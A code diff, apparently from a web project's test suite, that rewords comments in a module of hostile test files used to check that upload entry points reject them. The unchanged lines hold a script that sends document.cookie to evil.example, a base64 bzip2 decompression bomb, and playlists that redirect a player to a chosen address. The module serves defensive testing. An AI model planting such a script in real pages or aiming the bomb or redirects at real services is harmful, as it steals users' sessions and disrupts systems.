@@ -1,6 +1,6 @@
 /**
- * Files that mean harm, by what they come as. The test of each entry through which a file can come in is a table over those that
- * fit it: a file that is added here is asked there, and is to be refused unless the table says otherwise.
+ * Hostile files by category. Every entry point for files has a table test over its categories, which must reject each file unless the table
+ * states otherwise. A file that is added here is tested at all of these entry points.
  */
 import sharp from "sharp";
 
@@ -24,21 +24,21 @@ import { matroskaOfHugeSizes, matroskaOfNests, wav } from "./sounds.ts";
 
 type Made = Uint8Array | Promise<Uint8Array>;
 
-/** An address where nobody listens. */
+/** Address without a server. */
 const NOBODY = "http://127.0.0.1:9/x";
 export const PAGE = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>";
 const PICTURE = pngOf(64, 64);
 const JPEG = await sharp(PICTURE).jpeg().toBuffer();
 const WEBP = await sharp(PICTURE).webp({ lossless: true }).toBuffer();
 const ZIP = zipOf({ "a.txt": "x" });
-/** More than any run may unpack. */
+/** More bytes than any run may unpack. */
 const UNPACKED = 300_000_000;
 
-/** 300 million zeros, by bzip2 1.0.8. */
+/** 300 million zeros, compressed with bzip2 1.0.8. */
 const BZIP2_BOMB =
   "QlpoOTFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWQ4J4t8BX45AAMAAAAggADCATUZCoCWpCoCXMUFZJlNZDgni3wFfjkAAwAAACCAAMIBNRkKgJakKgJcxQVkmU1kOCeLfAV+OQADAAAAIIAAwgE1GQqAlqQqAlzFBWSZTWXcjn6wAvHRAIMAAEAAACCAAMMwJqmmqQqC2pSFQXi7kinChIQEEDIg=";
 
-/** Lists that name where a player should go on. */
+/** Returns playlists that refer a player to this address. */
 export function playlistsOf(target: string) {
   const here = "IN IP4 127.0.0.1";
   return {
@@ -53,7 +53,7 @@ export function playlistsOf(target: string) {
 const PLAYLISTS = playlistsOf(NOBODY);
 
 export const HOSTILE_FILES = {
-  /** Files that are none of what they are said to be. */
+  /** Files with another format than stated. */
   disguise: {
     nothing: () => Buffer.alloc(0),
     "a page": () => Buffer.from(PAGE),
@@ -159,7 +159,7 @@ export type HostileName<C extends Category> = C extends Category ? keyof (typeof
 
 const made = new Map<() => Made, Made>();
 
-/** Names and files of the categories, in their order, for tables. Each is made once: some are compressed from hundreds of megabytes. */
+/** Returns names and files of the categories in order, for tables. Each file is created once: some compress hundreds of megabytes. */
 export function hostileFiles<C extends Category>(
   ...categories: readonly C[]
 ): [name: HostileName<C>, make: () => Made][] {
